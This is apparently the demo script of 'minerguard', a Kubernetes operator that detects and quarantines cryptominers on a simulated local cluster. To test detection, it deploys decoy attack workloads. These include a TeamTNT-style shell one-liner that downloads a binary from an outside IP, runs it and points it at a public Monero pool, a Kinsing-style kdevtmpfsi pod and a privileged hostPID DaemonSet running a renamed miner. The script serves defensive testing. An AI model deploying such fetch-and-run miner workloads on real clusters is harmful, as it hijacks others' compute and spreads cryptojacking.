#!/usr/bin/env python3
"""``make demo``: minerguard on the local cluster, from nothing to contained miners, narrated.

1. builds or reuses the local control plane (real kube-apiserver, etcd, controller-manager and
   scheduler; KWOK simulates the nodes and pods; a real Prometheus scrapes KWOK's kubelet metrics);
2. installs the Helm chart (CRDs, RBAC, admission policy, the Deployment);
3. runs the operator itself here, as a local process (KWOK pods run no containers, so the chart's
   Deployment is only simulated);
4. installs the default policy pack (chart minerguard-policies) in Enforce, and a demo CPU policy
   with a short window;
5. creates a scene: ordinary workloads, a TeamTNT-style miner Deployment, a Kinsing-style pod, a
   privileged DaemonSet miner and a pod whose simulated CPU sits at its limit;
6. prints what minerguard detects, contains, cordons and holds back as it happens, then the
   incidents, the Events and how to release and clean up.

Where the machine runs the real node ``real-0`` (hack/realnode.py: root, ``make demo`` builds its
tools and the operator image), a stand-in pool and a stand-in XMRig run there as real containers
before the policies exist; the demo then shows the miner's own connection log switching from
"share accepted" to "connection refused" at the moment of the quarantine.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
STATE = ROOT / ".cluster"
BIN = Path(subprocess.run([str(ROOT / "hack" / "tools.sh"), "bindir"], capture_output=True, text=True,
                          check=True).stdout.strip())
KUBECONFIG = STATE / "kubeconfig"
SCENE_NAMESPACES = ["shop", "ci-runners", "build-agents"]
WATCH_SECONDS = int(os.environ.get("MINERGUARD_DEMO_SECONDS", "150"))
BOLD, RED, GREEN, YELLOW, DIM, RESET = (
    ("\033[1m", "\033[31m", "\033[32m", "\033[33m", "\033[2m", "\033[0m") if sys.stdout.isatty() else ("",) * 6
)
WALLET = "4" + "3b9Qp" * 18 + "Abcd"  # 95 base58 characters starting with 4: the shape of a Monero address


def step(text: str) -> None:
    print(f"\n{BOLD}==> {text}{RESET}", flush=True)


def note(text: str) -> None:
    print(f"    {DIM}{text}{RESET}", flush=True)


def run(*args: str, stdin: str | None = None, check: bool = True, quiet: bool = True) -> str:
    res = subprocess.run(list(args), input=stdin, capture_output=True, text=True)
    if check and res.returncode != 0:
        sys.exit(f"failed: {' '.join(args)}\n{res.stderr.strip()}")
    if not quiet and res.stdout:
        print(res.stdout.rstrip())
    return res.stdout


def kubectl(*args: str, stdin: str | None = None, check: bool = True, quiet: bool = True) -> str:
    return run(str(BIN / "kubectl"), "--kubeconfig", str(KUBECONFIG), *args, stdin=stdin, check=check, quiet=quiet)


def ports() -> dict[str, int]:
    return {k: int(v) for k, v in json.loads((STATE / "ports.json").read_text()).items()}


# --------------------------------------------------------------------------- steps


def cluster_up() -> None:
    step("Local control plane (kube-apiserver, etcd, controller-manager, scheduler, KWOK, Prometheus)")
    subprocess.run([sys.executable, str(ROOT / "hack" / "cluster.py"), "up"], check=True)
    # A cluster already running, set up for the real node but without it: start it (a no-op otherwise).
    subprocess.run([sys.executable, str(ROOT / "hack" / "cluster.py"), "node-up"], capture_output=True)
    kubectl("apply", "--server-side", "-f", str(ROOT / "crds"))
    kubectl("wait", "--for=condition=Established", "crd", "--all", "--timeout=60s")


def reset_scene() -> None:
    existing = [ns for ns in SCENE_NAMESPACES + LAB_NAMESPACES if kubectl("get", "namespace", ns, check=False).strip()]
    if existing:
        step("Clearing the previous demo scene")
        kubectl("delete", "namespace", *existing, "--wait=true", "--timeout=120s", check=False)
    for node in kubectl("get", "nodes", "-o", "name").split():
        kubectl("annotate", node, "minerguard.io/cordoned-", "minerguard.io/node-action-at-", "minerguard.io/policy-",
                check=False)
        kubectl("uncordon", node, check=False)
        kubectl("taint", node, "minerguard.io/suspect-", check=False)
    kubectl("delete", "minerincidents", "-n", "minerguard-system", "--all", check=False)


def helm_install() -> None:
    step("helm install minerguard (CRDs, RBAC, admission policy, Deployment)")
    note("The Deployment's pods land on KWOK nodes, which run no containers: they show Running but are simulated.")
    note("The real operator runs next, as a local process with the cluster's admin credentials.")
    kubectl("create", "namespace", "minerguard-system", check=False)
    run(str(BIN / "helm"), "upgrade", "--install", "minerguard", str(ROOT / "helm" / "minerguard"),
        "--kubeconfig", str(KUBECONFIG), "--namespace", "minerguard-system", "--take-ownership", "--wait",
        "--timeout", "120s", "--set", "admissionPolicy.exemptUsers={minerguard-admin}",
        "--set", "creatorStamp.enabled=true",
        "--set", f"prometheus.url=http://127.0.0.1:{ports()['prometheus']}")
    kubectl("get", "deployment,serviceaccount,validatingadmissionpolicy", "-n", "minerguard-system",
            "-l", "app.kubernetes.io/instance=minerguard", quiet=False)


def start_operator() -> subprocess.Popen[bytes]:
    step("Starting the operator (python -m minerguard run)")
    pidfile = STATE / "pids" / "demo-operator.pid"
    if pidfile.exists():
        try:
            os.kill(int(pidfile.read_text()), signal.SIGTERM)
            time.sleep(1)
        except (ProcessLookupError, ValueError):
            pass
    env = {
        **os.environ,
        "KUBECONFIG": str(KUBECONFIG),
        "MINERGUARD_PROMETHEUS_URL": f"http://127.0.0.1:{ports()['prometheus']}",
        "MINERGUARD_METRICS_INTERVAL": "5",
        # KWOK's kubelets serve container CPU on the resource endpoint (hack/cluster.py labels it so).
        "MINERGUARD_METRIC_CONTAINER_PATH": "/metrics/resource",
        "MINERGUARD_RATE_WINDOW": "10s",
        "MINERGUARD_RESYNC_INTERVAL": "10",
        "MINERGUARD_COST_WRITE_INTERVAL": "5",
        "MINERGUARD_INSTANCE": "demo-operator",
        "PYTHONUNBUFFERED": "1",
    }
    log = STATE / "logs" / "demo-operator.log"
    log.parent.mkdir(parents=True, exist_ok=True)
    with open(log, "ab") as out:
        proc = subprocess.Popen([sys.executable, "-m", "minerguard", "run", "--standalone"], env=env, stdout=out,
                                stderr=subprocess.STDOUT, start_new_session=True)
    pidfile.parent.mkdir(parents=True, exist_ok=True)
    pidfile.write_text(str(proc.pid))
    note(f"pid {proc.pid}, log {log}")
    return proc


def apply_policies() -> None:
    step("helm install minerguard-policies --set mode=Enforce (the default pack), and a demo CPU policy")
    note("The pack installs in Audit by default (report only); the demo switches it to Enforce explicitly.")
    run(str(BIN / "helm"), "upgrade", "--install", "minerguard-policies", str(ROOT / "helm" / "minerguard-policies"),
        "--kubeconfig", str(KUBECONFIG), "--namespace", "minerguard-system", "--take-ownership",
        "--set", "mode=Enforce")
    demo_cpu = {
        "apiVersion": "minerguard.io/v1alpha1", "kind": "MinerPolicy", "metadata": {"name": "demo-cpu-at-limit"},
        "spec": {
            "mode": "Enforce",
            "description": "Demo only: the pack's CPU policies use a 10 minute window; this one uses 30 seconds.",
            "scope": {"excludedNamespaces": ["kube-system", "minerguard-system"]},
            "signals": {"cpu": {"pod": {"threshold": 0.9, "window": "30s", "relativeTo": "Limit",
                                        "strength": "Strong"}}},
            "actions": [{"name": "quarantine"}],
        },
    }
    kubectl("apply", "-f", "-", stdin=json.dumps(demo_cpu))
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        out = kubectl("get", "minerpolicies", "-o", "json")
        items = json.loads(out)["items"]
        ready = [i for i in items if any(c.get("type") == "Ready" and c.get("status") == "True"
                                         for c in (i.get("status") or {}).get("conditions") or [])]
        if len(ready) == len(items):
            break
        time.sleep(1)
    kubectl("get", "minerpolicies", quiet=False)


def scene() -> None:
    step("Creating the scene")
    for ns in SCENE_NAMESPACES:
        kubectl("create", "namespace", ns, check=False)
    docs: list[dict[str, Any]] = []

    def deployment(ns: str, name: str, replicas: int, container: dict[str, Any], **pod: Any) -> dict[str, Any]:
        return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": ns},
                "spec": {"replicas": replicas, "selector": {"matchLabels": {"app": name}},
                         "template": {"metadata": {"labels": {"app": name}},
                                      "spec": {"containers": [{"name": name, **container}], **pod}}}}

    # Ordinary workloads that look a little like miners and must be left alone.
    docs += [
        deployment("shop", "storefront", 2, {"image": "nginx:1.27"}),
        deployment("shop", "selenium-hub", 1, {"image": "selenium/hub:4.25", "env": [{"name": "SE_HUB_PORT",
                                                                                        "value": "4444"}]}),
        deployment("shop", "frontend-dev", 1, {"image": "node:22", "command": ["npm", "run", "dev", "--", "--port",
                                                                             "3333"]}),
        deployment("shop", "trainer", 1, {"image": "pytorch/pytorch:2.4", "command": ["python", "train.py",
                                                                                   "--workers", "16"]}),
    ]
    # TeamTNT-style: a shell one-liner fetches a miner, renames it and points it at a public pool. It is created
    # by tenant-admin (impersonated; an admin RoleBinding), whose name the creator stamp writes on it; its
    # ServiceAccount may read Secrets; its simulated CPU burns one core per pod (the bill).
    kubectl("create", "rolebinding", "tenant-admin", "--clusterrole=admin", "--user=tenant-admin", "-n", "ci-runners",
            check=False)
    kubectl("create", "serviceaccount", "builder", "-n", "ci-runners", check=False)
    kubectl("create", "role", "read-secrets", "--verb=get", "--resource=secrets", "-n", "ci-runners", check=False)
    kubectl("create", "rolebinding", "builder-secrets", "--role=read-secrets", "--serviceaccount=ci-runners:builder",
            "-n", "ci-runners", check=False)
    build_cache = deployment("ci-runners", "build-cache", 2, {
        "image": "alpine:3.20", "command": ["sh", "-c"],
        "args": [f"curl -s http://203.0.113.7/x -o /tmp/.dbus; chmod +x /tmp/.dbus; /tmp/.dbus -o "
                 f"pool.supportxmr.com:443 -u {WALLET} -k --tls --donate-level 1"]}, serviceAccountName="builder")
    build_cache["spec"]["template"]["metadata"]["annotations"] = {"kwok.x-k8s.io/usage-cpu": "1"}
    kubectl("--as", "tenant-admin", "apply", "-f", "-", stdin=json.dumps(build_cache))
    # Kinsing-style: the renamed xmrig kdevtmpfsi, stratum in the environment.
    docs.append({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "log-shipper", "namespace": "ci-runners"},
                 "spec": {"containers": [{"name": "shipper", "image": "ubuntu:24.04", "command": ["/tmp/kdevtmpfsi"],
                                          "env": [{"name": "POOL", "value": "stratum+tcp://xmr.pool.example:3333"}]}]}})
    # A privileged DaemonSet miner that can reach every host: quarantine, and cordon its nodes (guarded).
    docs.append({"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "node-agent",
                                                                            "namespace": "build-agents"},
                 "spec": {"selector": {"matchLabels": {"app": "node-agent"}},
                          "template": {"metadata": {"labels": {"app": "node-agent"}},
                                       "spec": {"hostPID": True, "containers": [{
                                           "name": "agent", "image": "busybox:1.36", "command": ["/opt/kworker"],
                                           "args": ["-a", "rx/0", "--randomx-1gb-pages", "--cpu-max-threads-hint=100"],
                                           "securityContext": {"privileged": True}}]}}}})
    # A pod with no spec signal at all, whose simulated CPU sits at its limit.
    docs.append({"apiVersion": "v1", "kind": "Pod",
                 "metadata": {"name": "image-resizer", "namespace": "build-agents",
                              "annotations": {"kwok.x-k8s.io/usage-cpu": "2"}},
                 "spec": {"containers": [{"name": "resizer", "image": "example/resizer:3",
                                          "resources": {"limits": {"cpu": "2"}, "requests": {"cpu": "500m"}}}]}})
    kubectl("apply", "-f", "-", stdin="\n---\n".join(json.dumps(d) for d in docs))
    note("shop: storefront (nginx), selenium-hub (4444), frontend-dev (port 3333), trainer (CPU-heavy ML)")
    note("ci-runners: build-cache Deployment (TeamTNT-style one-liner), log-shipper pod (Kinsing-style kdevtmpfsi)")
    note("build-agents: node-agent privileged hostPID DaemonSet (renamed XMRig), image-resizer at its CPU limit")


# --------------------------------------------------------------------------- the real node

LAB_NAMESPACES = ["mining-lab", "pool-lab"]
WIRE = ROOT / "tests" / "data" / "wire"


def real_node_ready() -> bool:
    out = kubectl("get", "node", "real-0", "-o", "jsonpath={.status.conditions[?(@.type=='Ready')].status}",
                  check=False)
    return out.strip() == "True"


def image_reference() -> str:
    return run(sys.executable, str(ROOT / "hack" / "image.py"), "reference").strip()


def lab_pod(ns: str, name: str, program: str, args: list[str]) -> list[dict[str, Any]]:
    source = (WIRE / f"{program}.py").read_text()
    return [
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": program, "namespace": ns},
         "data": {program: source}},
        {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns, "labels": {"app": name}},
         "spec": {"nodeSelector": {"minerguard.io/real-node": "true"},
                  "tolerations": [{"key": "minerguard.io/real-node", "operator": "Exists"}],
                  "automountServiceAccountToken": False, "terminationGracePeriodSeconds": 1,
                  "containers": [{"name": name, "image": image_reference(), "imagePullPolicy": "Never",
                                  "command": [f"/opt/{program}/{program}", *args],
                                  "resources": {"limits": {"cpu": "200m", "memory": "64Mi"}},
                                  "volumeMounts": [{"name": "p", "mountPath": f"/opt/{program}"}]}],
                  "volumes": [{"name": "p", "configMap": {"name": program, "defaultMode": 0o755}}]}},
    ]


def pod_ip(ns: str, name: str, timeout: float = 120) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        ip = kubectl("get", "pod", "-n", ns, name, "-o", "jsonpath={.status.podIP}", check=False).strip()
        phase = kubectl("get", "pod", "-n", ns, name, "-o", "jsonpath={.status.phase}", check=False).strip()
        if ip and phase == "Running":
            return ip
        time.sleep(1)
    sys.exit(f"pod {ns}/{name} did not run on real-0 within {timeout:.0f}s")


def miner_log() -> list[dict[str, Any]]:
    out = kubectl("logs", "-n", "mining-lab", "xmrig", check=False)
    entries = []
    for line in out.splitlines():
        try:
            entries.append(json.loads(line))
        except ValueError:
            continue
    return [e for e in entries if e.get("kind") == "new"]


def lab_start() -> bool:
    if not real_node_ready():
        note("No real node here (needs root; MINERGUARD_REAL_NODE=0 turns it off): the cut on the wire is skipped.")
        return False
    step("On the real node real-0: a stand-in pool and a stand-in XMRig, real containers, before any policy")
    note("Both are small Python programs (tests/data/wire/) in the operator's image, imported without a registry.")
    run(sys.executable, str(ROOT / "hack" / "cluster.py"), "import-image",
        run(sys.executable, str(ROOT / "hack" / "image.py"), "archives").split()[1])
    for ns in LAB_NAMESPACES:
        kubectl("create", "namespace", ns, check=False)
    kubectl("apply", "-f", "-", stdin="\n---\n".join(json.dumps(d) for d in lab_pod("pool-lab", "pool", "pool", [])))
    pool = pod_ip("pool-lab", "pool")
    args = ["-o", f"stratum+tcp://{pool}:3333", "-u", WALLET, "-k", "--donate-level", "1"]
    miner = lab_pod("mining-lab", "xmrig", "xmrig", args)
    kubectl("apply", "-f", "-", stdin="\n---\n".join(json.dumps(d) for d in miner))
    pod_ip("mining-lab", "xmrig")
    note(f"pool-lab/pool at {pool}:3333; mining-lab/xmrig -o stratum+tcp://{pool}:3333 -u {WALLET[:12]}...")
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not any(e["ok"] for e in miner_log()):
        time.sleep(0.5)
    for e in [e for e in miner_log() if e["ok"]][-3:]:
        print(f"    {GREEN}xmrig  {time.strftime('%H:%M:%S', time.localtime(e['t']))}.{int(e['t'] * 1000) % 1000:03d}"
              f"  {e['msg']}{RESET}")
    return True


def lab_cut(t_pack: float) -> None:
    step("The cut, on the wire: the miner's own connection log around its quarantine")
    deadline = time.monotonic() + 60
    refused = None
    while time.monotonic() < deadline and refused is None:
        refused = next((e for e in miner_log() if e["t"] >= t_pack and not e["ok"]), None)
        time.sleep(0.5)
    if refused is None:
        print(f"{YELLOW}    the miner on real-0 was still connecting 60s after the pack (see the operator log){RESET}")
        return
    log = miner_log()
    before = [e for e in log if e["ok"] and e["t"] < refused["t"]][-3:]
    after = [e for e in log if not e["ok"] and e["t"] >= refused["t"]][:3]
    for e in before + after:
        color = GREEN if e["ok"] else RED
        print(f"    {color}xmrig  {time.strftime('%H:%M:%S', time.localtime(e['t']))}.{int(e['t'] * 1000) % 1000:03d}"
              f"  {e['msg']}{RESET}")
    note(f"first refused connection {refused['t'] - t_pack:.1f}s after the pack was applied (detection, the "
         "quarantine in the API, then kube-router's firewall on real-0; docs/reliability.md has each step)")


REASONS = {
    "MinerDetected": RED, "PodQuarantined": GREEN, "NodeCordoned": GREEN, "NodeTainted": GREEN,
    "ContainmentSuppressed": YELLOW, "ContainmentFailed": RED, "QuarantineRestored": YELLOW,
}


def narrate(since: str) -> None:
    step(f"Watching what minerguard does (up to {WATCH_SECONDS}s; the CPU finding needs its 30s window)")
    seen: set[str] = set()
    started = time.monotonic()
    expected = {"image-resizer": False, "node-agent": False, "build-cache": False, "log-shipper": False}
    while time.monotonic() - started < WATCH_SECONDS and not all(expected.values()):
        items = json.loads(kubectl("get", "events", "-A", "-o", "json"))["items"]
        ours = [e for e in items if e.get("reportingComponent") == "minerguard.io/operator"
                and e["metadata"]["uid"] not in seen and e.get("reason") in REASONS
                and e.get("involvedObject", {}).get("kind") != "MinerPolicy"
                and (e.get("eventTime") or e["metadata"]["creationTimestamp"]) >= since]
        for ev in sorted(ours, key=lambda e: e.get("eventTime") or e["metadata"]["creationTimestamp"]):
            seen.add(ev["metadata"]["uid"])
            obj = ev["involvedObject"]
            what = f"{obj['kind']} {obj.get('namespace', '') + '/' if obj.get('namespace') else ''}{obj['name']}"
            color = REASONS[ev["reason"]]
            print(f"  {DIM}+{time.monotonic() - started:5.1f}s{RESET} {color}{ev['reason']:22}{RESET} {what}")
            print(f"           {DIM}{(ev.get('message') or '')[:240]}{RESET}", flush=True)
            if ev["reason"] == "PodQuarantined":
                for key in expected:
                    expected[key] |= obj["name"].startswith(key)
        time.sleep(1)
    if not all(expected.values()):
        missing = ", ".join(k for k, v in expected.items() if not v)
        print(f"{YELLOW}    not contained within {WATCH_SECONDS}s: {missing} (see the operator log){RESET}")


def summary(proc: subprocess.Popen[bytes]) -> None:
    step("Incidents (kubectl get minerincidents -A)")
    kubectl("get", "minerincidents", "-A", quiet=False)
    step("Policies (kubectl get minerpolicies)")
    kubectl("get", "minerpolicies", quiet=False)
    step("Quarantine NetworkPolicies and nodes")
    kubectl("get", "networkpolicies", "-A", "-l", "app.kubernetes.io/managed-by=minerguard", quiet=False)
    kubectl("get", "nodes", quiet=False)
    step("Nothing touched the ordinary workloads")
    out = kubectl("get", "pods", "-n", "shop", "-L", "minerguard.io/quarantined")
    print(out.rstrip())
    step("The canary: how build-cache got in, what its access reaches, and the bill (minerguard incident describe)")
    note("Foothold (creator stamp, owner chain, field managers, SubjectAccessReviews), related workloads, cost.")
    deadline = time.monotonic() + 40
    while time.monotonic() < deadline:
        body = json.loads(kubectl("get", "minerincident", "-n", "ci-runners", "deployment-build-cache", "-o", "json",
                                  check=False) or "{}")
        if ((body.get("status") or {}).get("cost") or {}).get("cpuCoreSeconds"):
            break
        time.sleep(2)
    run(sys.executable, "-m", "minerguard", "incident", "describe", "ci-runners/deployment-build-cache",
        "--kubeconfig", str(KUBECONFIG), quiet=False, check=False)
    step("What next")
    kc = f"--kubeconfig {KUBECONFIG}"
    print(f"""    kubectl {kc} describe pod -n ci-runners log-shipper        # the Events on a contained pod
    kubectl {kc} get events -A --field-selector reason=MinerDetected
    kubectl {kc} get minerincident -n ci-runners deployment-build-cache -o yaml
    kubectl {kc} get minerincidents -A -o wide        # Est. cost, Related and Foothold columns
    .venv/bin/minerguard incident describe ci-runners/deployment-build-cache --kubeconfig {KUBECONFIG}
    # release a workload (the record stays; the pod gets its network back):
    kubectl {kc} patch minerincident -n ci-runners pod-log-shipper --type merge -p '{{"spec":{{"release":true}}}}'
    # the operator keeps running in the background (pid {proc.pid}, log .cluster/logs/demo-operator.log)
    make demo-down      # stop the operator and the local cluster""")


def main() -> int:
    cluster_up()
    reset_scene()
    helm_install()
    proc = start_operator()
    lab = lab_start()
    since = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime())
    t_pack = time.time()
    apply_policies()
    if lab:
        lab_cut(t_pack)
    scene()
    narrate(since)
    summary(proc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
